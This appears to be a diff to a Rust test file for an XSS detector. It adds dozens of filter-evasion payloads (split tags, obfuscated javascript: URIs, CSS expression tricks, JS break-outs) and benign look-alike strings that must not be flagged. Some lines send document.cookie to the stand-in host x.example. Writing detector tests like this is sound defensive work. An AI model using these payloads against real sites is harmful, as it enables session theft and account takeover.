@@ -17,6 +17,13 @@ const ATTACKS: &[(&str, &[&str])] = &[
     (
         "xss-script-tag",
         &[
+            "<script a=`>` src=\"//x.example/y.js\"></script>",
+            "<script type=text/vbscript>MsgBox 1</script>",
+            "<style type=\"text/javascript\">steal()</style>",
+            "<handler ev:event=\"load\">alert(1)</handler>",
+            "'';!--\"<XSS>=&{()}",
+            "<<a>script>alert(1)<</a>/script>",
+            "<scr<!-- -->ipt>alert(1)</script>",
             "<script>steal()</script>",
             "<ScRiPt >x=1</sCrIpT>",
             "<script/y>steal()",
@@ -38,6 +45,8 @@ const ATTACKS: &[(&str, &[&str])] = &[
     (
         "xss-event-handler",
         &[
+            "\"autof<x>ocus o<x>nfocus=alert<x>(1)//",
+            "<im<b>g src=x oner<b>ror=al<b>ert(1)>",
             "<img src onerror=steal()>",
             "<svg/onload=steal()>",
             "<x onclick=steal()>",
@@ -63,6 +72,10 @@ const ATTACKS: &[(&str, &[&str])] = &[
     (
         "xss-javascript-uri",
         &[
+            "<img src=\"mocha:steal()\">",
+            "<xml><c>javas<!-- -->cript:alert(1)",
+            "<img src=\"javas]]><![CDATA[cript:alert(1)\">",
+            "<a href=\"javas\tcript\n:\tcon\nfirm\r``\">",
             "javascript:steal()",
             "<a href=javascript:steal()>",
             "<a href=' JaVaScRiPt:steal()'>",
@@ -97,6 +110,10 @@ const ATTACKS: &[(&str, &[&str])] = &[
     (
         "xss-expression",
         &[
+            "<b style='x:e\\78pression(steal())'>",
+            "<// style=x:expression\\28steal()\\29>",
+            "<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(1))'>",
+            "xss:ex/*XSS*//*/*/pression(alert(1))'>",
             "<b style='width:expression(steal())'>",
             "<b style='x:exp/**/ression(steal())'>",
             "<b style='x:e\\xpression(steal())'>",
@@ -104,12 +121,21 @@ const ATTACKS: &[(&str, &[&str])] = &[
             "<style>*{-moz-binding:url(//x.example)}</style>",
         ],
     ),
-    ("xss-iframe", &["<iframe src=//x.example>", "<iframe srcdoc='<b onclick=steal()>'>", "<frame src=x>"]),
+    (
+        "xss-iframe",
+        &[
+            "<portal src=//x.example>",
+            "<iframe src=//x.example>",
+            "<iframe srcdoc='<b onclick=steal()>'>",
+            "<frame src=x>",
+        ],
+    ),
     ("xss-object-embed", &["<object data=x>", "<embed src=//x.example>", "<applet code=x.class>"]),
     ("xss-base", &["<base href=//x.example/>"]),
     (
         "xss-meta",
         &[
+            "<META HTTP-EQUIV=\"Link\" Content=\"<//x.example/y.css>; REL=stylesheet\">",
             "<meta http-equiv=refresh content='0;url=//x.example'>",
             "<meta content='0;url=data:text/html,x' http-equiv=refresh>",
             "<meta http-equiv=set-cookie content='a=b'>",
@@ -129,6 +155,7 @@ const ATTACKS: &[(&str, &[&str])] = &[
     (
         "xss-import",
         &[
+            "<LINK REL=\"stylesheet\" HREF=\"//x.example/y.css\">",
             "<style>@import '//x.example/y.css';</style>",
             "<style>@\\import 'java\\script:steal()'</style>",
             "<link rel=import href=x>",
@@ -138,6 +165,7 @@ const ATTACKS: &[(&str, &[&str])] = &[
     (
         "xss-js-break-out",
         &[
+            "1;alert(1)//",
             "';alert(1)//",
             "'-alert(1)-'",
             "\"+confirm(1)+\"",
@@ -155,6 +183,15 @@ const ATTACKS: &[(&str, &[&str])] = &[
     (
         "xss-js-call",
         &[
+            "alert(1)>//x",
+            "1;alert(1)",
+            "\"+{valueOf:alert}+\"",
+            "'-[alert][0](1)-'",
+            "<x @click=alert(1)>",
+            "<div x-init=\"alert(1)\">",
+            "a=alert,a(1)",
+            "Object.prototype.toString=alert",
+            "echo('IPT>alert(1)</SCRIPT>')",
             "alert(1)",
             "alert(document.domain)",
             "confirm`1`",
@@ -169,7 +206,11 @@ const ATTACKS: &[(&str, &[&str])] = &[
     ),
     (
         "xss-js-exfiltration",
-        &["fetch('//x.example/?'+document.cookie)", "location='//x.example/?'+document.cookie"],
+        &[
+            "fetch('//x.example/?'+document.cookie)",
+            "location='//x.example/?'+document.cookie",
+            "document['cookie']",
+        ],
     ),
     (
         "xss-js-eval",
@@ -241,6 +282,14 @@ const BENIGN: &[&str] = &[
     "<form action=\"/login\" method=\"post\"><input name=\"user\"></form>",
     "<user@example.com> wrote: hi",
     "<!-- a comment -->",
+    "Add <link rel=\"stylesheet\" href=\"https://x.example/y.css\"> to the head",
+    "<link rel=\"stylesheet\" href=\"https://x.example/y.css\"><title>x</title>",
+    "<p title=\"Java Script: basics\">",
+    "toString: () => name, valueOf: number",
+    "<td>a<b>b</b>c</td>",
+    "<button @click=\"save(1)\">",
+    "const confirmed = confirm, x = 1",
+    "moment: mocha: chai:",
     "type Props = { onChange?: (v: string) => void };",
 ];
 
